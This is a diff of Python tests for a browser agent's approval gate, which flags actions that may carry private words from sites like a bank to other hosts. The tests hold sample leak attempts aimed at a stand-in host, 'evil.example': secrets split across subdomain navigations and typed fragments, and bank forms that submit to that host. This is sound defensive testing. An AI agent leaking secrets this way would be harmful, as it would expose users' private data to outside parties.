@@ -13,6 +13,8 @@ from hypothesis import assume, given
 from hypothesis import strategies as st
 from langchain_core.messages import AIMessage, HumanMessage
 
+from server.agent.actions import AimedAction
+from server.agent.gate.approval import focused_element
 from server.agent.gate.taint import (
     carries_private_words,
     count_arguments,
@@ -25,6 +27,7 @@ from server.agent.gate.taint import (
 from server.agent.private_sites import FILE, PrivateSites
 from server.browser.observation import Extra, Observation, observe_snapshot
 from server.browser.observation.page_script import Sent
+from tests.support.actions import aimed
 
 BANK, SHOP = "bank.example", "https://shop.example/"
 SAID = "Find a blue teapot and a green kettle at https://shop.example/offers/today and read the Wikipedia"
@@ -46,15 +49,20 @@ def page(snapshot: str = PAGE, url: str = SHOP, **options: Any) -> Observation:
     return observe_snapshot(snapshot, url=url, title="Shop", **options)
 
 
+def on(action: dict[str, Any], seen: Observation) -> AimedAction:
+    """The action on a page that reports the focus."""
+    return aimed(action, seen, focused_element({}, seen))
+
+
 def goes(url: str, **more: Any) -> bool:
     """Whether opening this address asks."""
-    return carries_private_words({"kind": "navigate", "url": url}, page(), state(**more))
+    return carries_private_words(aimed({"kind": "navigate", "url": url}, page()), state(**more))
 
 
 def types(*texts: str, **more: Any) -> bool:
     """Whether typing these texts, one into each field, asks."""
     fields = [{"eid": f"e{at}", "text": text} for at, text in enumerate(texts, 1)]
-    return carries_private_words({"kind": "type", "fields": fields}, page(), state(**more))
+    return carries_private_words(aimed({"kind": "type", "fields": fields}, page()), state(**more))
 
 
 SECRETS = [
@@ -124,7 +132,7 @@ def test_an_address_that_cannot_be_read_asks(broken: str) -> None:
 
 def test_links_of_the_page_that_cannot_be_read_are_none() -> None:
     seen = page('- link "Odd" [ref=l1] [box=0,0,80,20]:\n  - /url: "http://[::x/"')
-    assert not carries_private_words({"kind": "navigate", "url": SHOP}, seen, state())
+    assert not carries_private_words(aimed({"kind": "navigate", "url": SHOP}, seen), state())
 
 
 @pytest.mark.parametrize(
@@ -163,7 +171,7 @@ def test_what_the_agent_said_or_typed_before_is_no_word_of_the_page() -> None:
     assert types("balance")
     seen = page('- textbox "Search" [ref=s1] [box=0,30,200,20]: ZX81-CANARY')
     again = {"kind": "type", "fields": [{"eid": "e1", "text": "ZX81-CANARY"}]}
-    assert carries_private_words(again, seen, state())
+    assert carries_private_words(aimed(again, seen), state())
 
 
 def test_pieces_over_several_actions_are_counted_together() -> None:
@@ -172,13 +180,12 @@ def test_pieces_over_several_actions_are_counted_together() -> None:
     for piece in ("ZX8", "1C", "A9"):
         action = {"kind": "type", "fields": [{"eid": "e1", "text": piece}]}
         known = remembering(state(), private)
-        asked.append(carries_private_words(action, page(), known))
-        count_load(action, page(), known, private, approved=False)
+        asked.append(carries_private_words(aimed(action, page()), known))
+        count_load(aimed(action, page()), known, private, approved=False)
     assert asked == [False, True, True]
     assert not types("ZX8", letters={"other.example": 9})
-    count_load(
-        {"kind": "type", "fields": [{"eid": "e1", "text": "ZX8"}]}, page(), state(), private, approved=True
-    )
+    piece = aimed({"kind": "type", "fields": [{"eid": "e1", "text": "ZX8"}]}, page())
+    count_load(piece, state(), private, approved=True)
     assert private.letters == {"shop.example": 0}
 
 
@@ -188,8 +195,8 @@ def test_names_below_one_name_are_counted_together() -> None:
     for word in ("hunter", "two", "correct", "horse"):
         action = {"kind": "navigate", "url": f"https://{word}.evil.example/"}
         known = remembering(state(), private)
-        asked.append(carries_private_words(action, page(), known))
-        count_load(action, page(), known, private, approved=False)
+        asked.append(carries_private_words(aimed(action, page()), known))
+        count_load(aimed(action, page()), known, private, approved=False)
     assert asked == [False, False, False, True]
 
 
@@ -218,15 +225,16 @@ def test_a_form_of_a_private_page_that_is_sent_elsewhere_carries_what_it_holds()
         {"kind": "type", "fields": [{"eid": "e1", "text": ""}], "submit": True},
         {"kind": "press", "key": "Enter"},
     ):
-        assert carries_private_words(action, sent_to("https://evil.example/"), state()), action
-        assert not carries_private_words(action, sent_to(f"https://{BANK}/form"), state()), action
+        assert carries_private_words(on(action, sent_to("https://evil.example/")), state()), action
+        assert not carries_private_words(on(action, sent_to(f"https://{BANK}/form")), state()), action
 
 
 def sends(snapshot: str, action: dict[str, Any], here: str, to: str, *private: str) -> bool:
     """Whether an action asks on a page whose field at 20 and button at 60 send to an address."""
     boxes = ((0, 20, 200, 20), (0, 60, 200, 20))
     extra = Extra(submits=boxes[1:], sent=tuple(Sent(box=box, to=to) for box in boxes))
-    return carries_private_words(action, page(snapshot, here, extra=extra), state(private_sites=[*private]))
+    seen = page(snapshot, here, extra=extra)
+    return carries_private_words(on(action, seen), state(private_sites=[*private]))
 
 
 HERE, EVIL = f"https://{BANK}/form", "https://evil.example/"
